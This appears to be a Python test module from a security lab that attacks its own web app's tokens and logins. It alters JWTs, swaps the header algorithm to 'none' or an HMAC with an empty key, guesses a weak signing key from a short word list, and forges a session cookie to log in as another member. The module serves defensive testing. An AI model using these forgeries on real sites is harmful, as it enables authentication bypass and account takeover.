"""Attacks by anybody who forges or changes tokens and logins."""

import hmac
import json
from collections.abc import Iterable, Iterator

from confirmlab.mail.inbox import Inbox
from confirmlab.site.attacks.account import Member
from confirmlab.site.attacks.forged_tokens import (
    FIVE_WORDS,
    claims,
    damaged_tokens,
    encoded,
    is_key_of_cookie,
    is_key_of_token,
    session_signer,
)
from confirmlab.site.attacks.scoreboard import Result
from confirmlab.site.server import Site
from confirmlab.site.visitor import Visitor


def forged_token(site: Site, inbox: Inbox) -> Result:
    """Change each part of one's own token, and sign it with other keys."""
    mallory = Member(site, inbox)
    harm = _first_harm(mallory, damaged_tokens(mallory.token))
    refused = "Ten altered or home-made tokens were refused, and none crashed the app."
    return bool(harm), harm or refused


def chosen_algorithm(site: Site, inbox: Inbox) -> Result:
    """Name another algorithm in the header, and sign with no key or not at all."""
    mallory = Member(site, inbox)
    harm = _first_harm(mallory, _with_other_algorithms(mallory.token.split(".")[1]))
    refused = "Six headers were tried; the app takes its own algorithm and no other."
    return bool(harm), harm or refused


def _with_other_algorithms(payload: str) -> Iterator[tuple[str, str]]:
    for algorithm in ("none", "None", "nOnE", "HS256", "HS384", "RS256"):
        start = encoded(json.dumps({"alg": algorithm, "typ": "JWT"}).encode()) + "." + payload
        digest = {"HS256": "sha256", "HS384": "sha384"}.get(algorithm)
        signature = hmac.digest(b"", start.encode(), digest) if digest else b""
        yield f"A token that says {algorithm!r}", f"{start}.{encoded(signature)}"


def _first_harm(mallory: Member, tokens: Iterable[tuple[str, str]]) -> str:
    """Use tokens in turn; return what the first harmful one did, or "" if none did harm."""
    for what, token in tokens:
        page = mallory.use(token)
        if page.status >= 500:
            return f"{what} crashes the app: status {page.status}."
        if mallory.confirmed:
            return f"{what} confirms an account."
    return ""


def weak_key(site: Site, inbox: Inbox) -> Result:
    """Try words as the key without asking the site, then sign a login as somebody else."""
    mallory = Member(site, inbox)
    name, cookie = next(iter(mallory.browser.cookies.items()))
    for word in FIVE_WORDS:
        if is_key_of_token(word, mallory.token) or is_key_of_cookie(word, cookie):
            ada = Member(site, inbox, "ada")
            ada.use(ada.token)
            number = str(claims(ada.token)["confirm_id"])  # numbers count up: no secret
            forged = session_signer(word).dumps({"_user_id": number, "_fresh": True})
            landed = Visitor(site.url, headers={"Cookie": f"{name}={forged}"}).open("/profile")
            where = "With it, a login as any member can be signed; hers opens /profile."
            if landed.path != "/profile":
                where = "A login signed with it is refused: it lacks her account's own mark."
            return True, f"The key is {word!r}, found without one request. {where}"
    return False, "None of the five words is the key; a random key is on nobody's list."
